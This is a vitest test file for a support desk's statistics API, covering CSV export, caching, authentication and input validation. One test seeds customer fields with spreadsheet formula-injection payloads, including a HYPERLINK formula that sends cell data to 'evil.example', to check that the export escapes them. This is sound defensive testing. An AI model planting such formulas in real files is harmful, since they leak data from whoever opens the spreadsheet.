import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { type CaseRecord, listingOf } from '../../src/desk/case.ts';
import { createFigures } from '../../src/desk/figures-service.ts';
import { openStore } from '../../src/store/choose.ts';
import type { Store } from '../../src/store/port.ts';
import { versioned } from '../../src/store/versioned.ts';
import { UPGRADES } from '../../src/upgrades.ts';
import { openDoors } from '../channels/helpers/doors.ts';
import { type PostgresServer, startPostgres } from '../helpers/postgres.ts';
import { temporaryFolder } from '../store/helpers.ts';
import { BEGIN, calendar, type Lived, lives } from './figures-cases.ts';

const DAY = 86_400_000;
const log = { info() {}, warn() {} };
const token = { Authorization: 'Bearer a-staff-token' };

let server: PostgresServer;
beforeAll(async () => {
  server = await startPostgres();
});
afterAll(() => server?.remove());

const stores: [string, () => Promise<Store>][] = [
  ['files', async () => openStore({ dir: await temporaryFolder(), databaseUrl: undefined, log })],
  [
    'PostgreSQL',
    async () => openStore({ dir: await temporaryFolder(), databaseUrl: await server.database(), log }),
  ],
];

/** Cases into an empty store, in this order. */
async function keepCases(store: Store, records: readonly CaseRecord[]): Promise<void> {
  for (let begin = 0; begin < records.length; begin += 500) {
    const slice = records.slice(begin, begin + 500);
    const writes = slice.map((record) => ({
      key: `case/${record.id}`,
      expectedVersion: 0,
      value: record,
      listing: listingOf(record),
    }));
    const { ok } = await store.commit({ writes });
    if (!ok) throw new Error('a case is there already');
  }
}

/** So many cases with lives of their own, each with another number. */
function manyLives(count: number): Lived[] {
  const all = fc
    .sample(lives, { seed: 5, numRuns: 10 + count / 5 })
    .flat()
    .slice(0, count);
  return all.map(({ record, ledger }, nth) => ({ record: { ...record, id: `C-${1001 + nth}` }, ledger }));
}

/** The doors on the figures of a store, by a clock that stands at the end of the lives. */
async function openFigures(given: Store) {
  const store = versioned(given, UPGRADES);
  onTestFinished(() => store.close());
  const clock = { ms: BEGIN + 60 * DAY };
  let reads = 0;
  const figures = createFigures({
    store: {
      cases: (query) => store.cases(query),
      get: <T>(key: string) => {
        reads++;
        return store.get<T>(key);
      },
    },
    calendar,
    now: () => ({ at: new Date(clock.ms).toISOString(), on: '2026-05-01', ms: clock.ms }),
  });
  const none = (): Promise<never> => Promise.reject(new Error('nobody asks for it'));
  const doors = await openDoors({
    staffApi: { list: none, get: none, attachment: none, act: none, figures },
  });
  const ask = (query: string, headers: Record<string, string> = token): Promise<Response> =>
    fetch(`${doors.url}/api/staff/figures${query}`, { headers });
  return { store, clock, ask, logged: doors.logged, reads: () => reads };
}

describe.each(stores)('the figures of the desk, on %s', (_name, open) => {
  it('are of all cases, and the table has each of them', async () => {
    const all = manyLives(1_200);
    const { store, ask } = await openFigures(await open());
    await keepCases(
      store,
      all.map(({ record }) => record),
    );
    const response = await ask('?from=2026-02-01&to=2026-05-31');
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const { from, zone, now, period } = (await response.json()) as {
      from: string;
      zone: string;
      now: { waiting: { total: number }; held: { total: number } };
      period: { opened: number; byLanguage: Record<string, { opened: number }> };
    };
    expect([from, zone, period.opened]).toEqual(['2026-02-01', 'Asia/Shanghai', all.length]);
    const places = (...names: string[]) => all.filter(({ ledger }) => names.includes(ledger.where)).length;
    expect([now.waiting.total, now.held.total]).toEqual([places('sales', 'technicians'), places('held')]);
    const csv = await ask('?from=2026-02-01&to=2026-05-31&format=csv');
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toBe(
      'attachment; filename="cases-2026-02-01-2026-05-31.csv"',
    );
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes, { bom: true, columns: true, record_delimiter: '\r\n' }) as { id: string }[];
    expect(rows.map(({ id }) => id)).toEqual(all.map(({ record }) => record.id));
  });

  it('say who the customers are only where that is asked for, and run nothing of what they typed', async () => {
    const { store, ask } = await openFigures(await open());
    const [{ record } = { record: undefined }] = manyLives(1);
    if (!record) throw new Error('there is no case');
    const name = '=HYPERLINK("http://evil.example?"&A1,"李, 明")';
    const contact = { name, email: '@SUM(1+1)', phone: '+8613800138000' };
    await keepCases(store, [
      { ...record, customer: { id: '\t=1+1', name: 'Li' }, draft: { ...record.draft, contact } },
    ]);
    const rowsOf = async (query: string): Promise<Record<string, string>[]> =>
      parse(
        await (await ask(`?from=2026-02-01&to=2026-05-31${query}`, { ...token, Accept: 'text/csv' })).text(),
        {
          bom: true,
          columns: true,
        },
      );
    const [without] = await rowsOf('');
    expect(Object.keys(without ?? {})).not.toEqual(expect.arrayContaining(['name']));
    expect(JSON.stringify(without)).not.toMatch(/evil|SUM|86138|1\+1/);
    expect(await rowsOf('&contact=yes')).toMatchObject([
      {
        id: record.id,
        customer: "'\t'=1+1",
        name: `'${name}`,
        email: "'@SUM(1+1)",
        phone: "'+8613800138000",
      },
    ]);
  });

  it('are reckoned once for all who ask within seconds, and anew after that', async () => {
    const { store, ask, clock, reads } = await openFigures(await open());
    await keepCases(
      store,
      manyLives(300).map(({ record }) => record),
    );
    const [one, other] = await Promise.all([ask(''), ask('')]);
    expect(await one?.text()).toBe(await other?.text());
    clock.ms += 5_000;
    await (await ask('')).text();
    expect(reads()).toBe(300);
    clock.ms += 6_000;
    const { at } = (await (await ask('')).json()) as { at: string };
    expect([reads(), at]).toEqual([600, new Date(clock.ms).toISOString()]);
  });
});

describe('who asks for figures', () => {
  it('needs the token, names days that there are, and hears which field is wrong', async () => {
    const { ask } = await openFigures(
      await openStore({ dir: await temporaryFolder(), databaseUrl: undefined, log }),
    );
    expect((await ask('', {})).status).toBe(401);
    for (const [query, field] of [
      ['?from=yesterday', 'from'],
      ['?to=2026-02-30', 'to'],
      ['?format=pdf', 'format'],
      ['?contact=1', 'contact'],
      ['?from=2026-01-01&from=2026-01-02', 'from'],
    ]) {
      const response = await ask(query ?? '');
      expect([response.status, ((await response.json()) as { field: string }).field]).toEqual([400, field]);
    }
    expect(await (await ask('')).json()).toMatchObject({ period: { opened: 0, ratings: { average: null } } });
  });

  it('of a table that breaks off gets no end of it', async () => {
    const { store, ask, logged } = await openFigures(
      await openStore({ dir: await temporaryFolder(), databaseUrl: undefined, log }),
    );
    await keepCases(
      store,
      manyLives(1_100).map(({ record }) => record),
    );
    const get = store.get.bind(store);
    store.get = (key) => (key === 'case/C-2050' ? Promise.reject(new Error('the disk is gone')) : get(key));
    const response = await ask('?from=2026-02-01&to=2026-05-31&format=csv');
    await expect(response.text()).rejects.toThrow();
    expect(logged.join()).toContain('the disk is gone');
  });
});
